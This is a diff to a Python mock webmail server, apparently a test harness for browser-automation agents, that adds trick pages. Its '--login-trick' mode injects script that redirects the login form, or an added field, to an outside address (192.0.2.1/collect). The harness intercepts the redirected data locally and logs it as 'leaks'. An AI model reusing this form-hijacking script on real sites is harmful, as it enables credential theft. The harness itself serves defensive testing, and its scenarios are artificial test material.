@@ -22,8 +22,29 @@ The user is "bob" with the password "s3cret". The pages:
   /logout     ends the session and drops the cookie
   /stall      never answers
   /big        a page of --big-kb kilobytes of message rows
+  /manylinks  --big-kb times 50 short links, then one to /inbox ("Mailbox")
 With --extra-checkbox the list holds one more check box named "sel" (a
 "select all" box) than it holds messages.
+
+Pages that change under the route (each change is made by the page's own
+script, as a real site's would be):
+  --login-trick note    typing the user name adds a field "note" after it
+                        that belongs to a form posting to 192.0.2.1
+  --login-trick action  typing the user name points the log-in form at
+                        192.0.2.1
+                        (whatever reaches such a field or form is reported
+                        to /leak and recorded as "leaks"; nothing is sent
+                        off this computer)
+  --shifty-list         a1001's box is ticked when the list comes, and a
+                        message whose box is unticked moves to the list's end
+  --show-id ID=SHOWN    the list shows SHOWN (may be empty) as ID's
+                        identifier; its check box keeps ID (repeatable)
+  --session-host NAME   the site lives on NAME (e.g. localhost): a page asked
+                        for under another host name is sent there, so the
+                        session cookie is NAME's; /login of a signed-in
+                        browser goes straight to /home
+A second user "ann" (password "pw-ann") shares the mailbox; /inbox records
+whose session viewed it ("inbox_users").
 """
 
 import argparse
@@ -39,7 +60,7 @@ import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from urllib.parse import parse_qs, urlsplit
 
-USER, PASSWORD = "bob", "s3cret"
+USERS = {"bob": "s3cret", "ann": "pw-ann"}
 
 MESSAGES = [
     # id, sender as the page writes it, subject, time or date, read
@@ -61,9 +82,9 @@ BODIES = {
 LOCK = threading.Lock()
 STATE = {
     "logins": [], "visits": [], "delete_posts": [], "deleted": [], "viewed": [],
-    "logouts": 0, "requests": [],
+    "logouts": 0, "requests": [], "leaks": [], "inbox_users": [],
 }
-SESSIONS = set()
+SESSIONS = {}
 LOGIN_TOKENS = set()
 PENDING = {}
 MAILBOX = [list(m) for m in MESSAGES]
@@ -82,20 +103,78 @@ def page(title, lines):
                      + lines + ["</body>", "</html>", ""])
 
 
+def shown_ids():
+    out = {}
+    for pair in ARGS.show_id or []:
+        k, v = pair.split("=", 1)
+        out[k] = v
+    return out
+
+
 def message_rows():
     rows = []
+    shown = shown_ids()
     for (mid, sender, subject, when, read) in MAILBOX:
         r = "r" if read else ""
+        ticked = " checked" if ARGS.shifty_list and mid == "a1001" else ""
         rows += [
             '<tr class="msg %s">' % ("read" if read else "unread"),
-            '<td><input type="checkbox" name="sel" value="%s"></td>' % mid,
-            '<td class="%sid">%s</td>' % (r, mid),
+            '<td><input type="checkbox" name="sel" value="%s"%s></td>' % (mid, ticked),
+            '<td class="%sid">%s</td>' % (r, shown.get(mid, mid)),
             '<td class="%sfrom">%s</td>' % (r, sender),
             '<td><a href="/msg?id=%s" class="%ss">%s</a></td>' % (mid, r, subject),
             '<td class="%swhen">%s</td>' % (r, when),
             "</tr>",
         ]
     return rows
+
+
+# Unticking a box moves its message to the end of the list.
+SHIFTY_LIST = [
+    "<script>",
+    "document.addEventListener('change', function (e) {",
+    "  var t = e.target;",
+    "  if (t.name !== 'sel' || t.checked) return;",
+    "  var row = t.closest('tr');",
+    "  row.parentNode.appendChild(row);",
+    "});",
+    "</script>",
+]
+
+
+def login_trick():
+    if not ARGS.login_trick:
+        return []
+    return [
+        '<form id="elsewhere" method="post" action="http://192.0.2.1/collect"></form>',
+        "<script>",
+        "(function () {",
+        "  var login = document.forms[0], changed = false;",
+        "  function leak(v) { fetch('/leak?v=' + encodeURIComponent(v)); }",
+        "  // Nothing leaves this computer: what would have gone is reported.",
+        "  document.getElementById('elsewhere').addEventListener('submit', function (e) {",
+        "    e.preventDefault(); leak('submitted');",
+        "  });",
+        "  login.addEventListener('submit', function (e) {",
+        "    if (login.action.indexOf('192.0.2.1') < 0) return;",
+        "    e.preventDefault(); leak(login.elements['pass'].value);",
+        "  });",
+        "  var user = login.elements['user'];",
+        "  user.addEventListener('input', function () {",
+        "    if (changed) return;",
+        "    changed = true;",
+        "    if (%s === 'note') {" % json.dumps(ARGS.login_trick),
+        "      var note = document.createElement('input');",
+        "      note.type = 'text'; note.name = 'note'; note.setAttribute('form', 'elsewhere');",
+        "      note.addEventListener('input', function () { leak(note.value); });",
+        "      user.parentNode.after(note);",
+        "    } else {",
+        "      login.setAttribute('action', 'http://192.0.2.1/collect');",
+        "    }",
+        "  });",
+        "})();",
+        "</script>",
+    ]
 
 
 class Handler(BaseHTTPRequestHandler):
@@ -115,6 +194,9 @@ class Handler(BaseHTTPRequestHandler):
 
     def session(self):
         return self.cookies().get("sid") in SESSIONS
+
+    def host_name(self):
+        return self.headers.get("Host", "").rsplit(":", 1)[0]
 
     def send(self, code, body="", headers=()):
         data = body.encode("utf-8")
@@ -145,6 +227,9 @@ class Handler(BaseHTTPRequestHandler):
             return
         if path == "/favicon.ico":
             return self.send(404, "")
+        if ARGS.session_host and self.host_name() != ARGS.session_host:
+            port = self.server.server_address[1]
+            return self.redirect("http://%s:%d%s" % (ARGS.session_host, port, self.path))
         with LOCK:
             self.record(path)
             try:
@@ -153,6 +238,11 @@ class Handler(BaseHTTPRequestHandler):
                 save_state()
 
     def get(self, path, q):
+        if path == "/leak":
+            STATE["leaks"].append(q.get("v", ""))
+            return self.send(204, "")
+        if path == "/login" and ARGS.session_host and self.session():
+            return self.redirect("/home")
         if path == "/login":
             token = secrets.token_hex(8)
             LOGIN_TOKENS.add(token)
@@ -166,10 +256,10 @@ class Handler(BaseHTTPRequestHandler):
                 '<input type="submit" name="go" value="Classic">',
                 '<input type="submit" name="go" value="Standard">',
                 "</form>",
-            ]), [("Set-Cookie", "pre=1; Path=/")])
+            ] + login_trick()), [("Set-Cookie", "pre=1; Path=/")])
         if path == "/logout":
             sid = self.cookies().get("sid")
-            SESSIONS.discard(sid)
+            SESSIONS.pop(sid, None)
             STATE["logouts"] += 1
             return self.send(200, page("Signed out", ["<p>You have signed out.</p>"]),
                              [("Set-Cookie", "sid=; Path=/; Max-Age=0")])
@@ -181,6 +271,11 @@ class Handler(BaseHTTPRequestHandler):
                 '<p><a href="/archive">Mailbox (archive)</a></p>',
                 '<p><a href="/inbox">Mailbox</a></p>',
             ]))
+        if path == "/manylinks":
+            # Each link is short in the HTML and long in a list of links,
+            # which gives its address in full.
+            return self.send(200, page("Links", ['<a href="?">M</a>'] * (ARGS.big_kb * 50)
+                                       + ['<a href="/inbox">Mailbox</a>']))
         if path == "/archive":
             return self.send(200, page("Archive", ["<p>The archive is empty.</p>"]))
         if path in ("/inbox", "/big"):
@@ -189,6 +284,8 @@ class Handler(BaseHTTPRequestHandler):
                 filler = '<tr class="filler"><td>%s</td></tr>' % ("x" * 1000)
                 rows = [filler] * ARGS.big_kb + rows
             extra = ['<p>All <input type="checkbox" name="sel" value="all"></p>'] if ARGS.extra_checkbox else []
+            if path == "/inbox":
+                STATE["inbox_users"].append(SESSIONS[self.cookies().get("sid")])
             return self.send(200, page("Inbox", [
                 "<h1>Inbox</h1>",
                 '<form method="post" action="/delete">',
@@ -203,7 +300,7 @@ class Handler(BaseHTTPRequestHandler):
                 "</form>",
                 '<p><a href="/logout">Sign out</a></p>',
                 '<p><a href="/logout"><img src="/signout.png" alt="sign out"></a></p>',
-            ]))
+            ] + (SHIFTY_LIST if ARGS.shifty_list else [])))
         if path == "/msg":
             mid = q.get("id", "")
             found = [m for m in MAILBOX if m[0] == mid]
@@ -244,14 +341,15 @@ class Handler(BaseHTTPRequestHandler):
         if path == "/login":
             token_ok = one("token") in LOGIN_TOKENS
             LOGIN_TOKENS.discard(one("token"))
-            ok = token_ok and one("user") == USER and one("pass") == PASSWORD and self.cookies().get("pre") == "1"
+            ok = (token_ok and one("user") in USERS and one("pass") == USERS[one("user")]
+                  and self.cookies().get("pre") == "1")
             STATE["logins"].append({"user": one("user"), "button": form.get("go", []), "token_ok": token_ok,
                                     "pre_cookie": self.cookies().get("pre", ""), "ok": ok})
             if not ok:
                 return self.send(200, page("Sign in failed", ["<p>Wrong user name or password.</p>",
                                                               '<p><a href="/login">Try again</a></p>']))
             sid = secrets.token_hex(12)
-            SESSIONS.add(sid)
+            SESSIONS[sid] = one("user")
             return self.redirect("/home", [("Set-Cookie", "sid=%s; Path=/; HttpOnly" % sid)])
         if path == "/delete":
             if not self.session():
@@ -278,6 +376,10 @@ def main():
     p.add_argument("--extra-checkbox", action="store_true")
     p.add_argument("--login-action", default="")
     p.add_argument("--big-kb", type=int, default=0)
+    p.add_argument("--login-trick", choices=["note", "action"])
+    p.add_argument("--shifty-list", action="store_true")
+    p.add_argument("--show-id", action="append")
+    p.add_argument("--session-host", default="")
     ARGS = p.parse_args()
     save_state()
     server = ThreadingHTTPServer(("127.0.0.1", ARGS.port), Handler)
